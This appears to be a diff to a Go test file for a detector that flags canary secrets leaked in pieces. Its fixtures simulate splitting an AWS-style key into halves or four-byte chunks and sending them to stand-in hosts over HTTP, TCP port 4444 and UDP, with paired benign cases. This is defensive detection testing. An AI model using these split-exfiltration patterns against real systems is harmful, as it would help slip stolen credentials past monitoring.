@@ -50,9 +50,28 @@ func TestScanCanariesSplitAndKeys(t *testing.T) {
 			b.conn("203.0.113.9", 4444, "", half1)
 			b.conn("203.0.113.9", 4444, "", half2)
 		}, want: []string{"tcp/split"}, spans: 2},
-		{name: "benign twin: halves to two destinations", build: func(b *tl) {
+		{name: "halves to two destinations", build: func(b *tl) {
 			b.http("GET", "https://one.example/c?d="+half1, "")
 			b.http("GET", "https://two.example/c?d="+half2, "")
+		}, want: []string{"http/split"}, spans: 2},
+		{name: "halves in bodies to two hosts, another request between", build: func(b *tl) {
+			b.http("POST", "https://one.example/a", half1)
+			b.http("GET", "https://three.example/ping", "")
+			b.http("POST", "https://two.example/b", half2)
+		}, want: []string{"http/split"}, spans: 2},
+		{name: "udp chunks to one port each", build: func(b *tl) {
+			for i := 0; i < len(awsKey); i += 4 {
+				b.add(trace.SourceUDP, trace.TypeConnection, 0, &trace.Connection{Proto: "udp", DstIP: "203.0.113.5",
+					DstPort: 40000 + i, FirstBytes: []byte(awsKey[i:min(i+4, len(awsKey))])})
+			}
+		}, want: []string{"udp/split"}, spans: (len(awsKey) + 3) / 4},
+		{name: "tcp halves to two hosts", build: func(b *tl) {
+			b.conn("203.0.113.9", 4444, "", half1)
+			b.conn("198.51.100.7", 8080, "", half2)
+		}, want: []string{"tcp/split"}, spans: 2},
+		{name: "benign twin: halves of two different tokens", build: func(b *tl) {
+			b.http("GET", "https://one.example/c?d="+half1, "")
+			b.http("GET", "https://two.example/c?d="+awsKey[:10], "")
 		}},
 		{name: "benign twin: whole token in one request", build: func(b *tl) {
 			b.http("POST", "https://collect.example/api", json(awsKey))
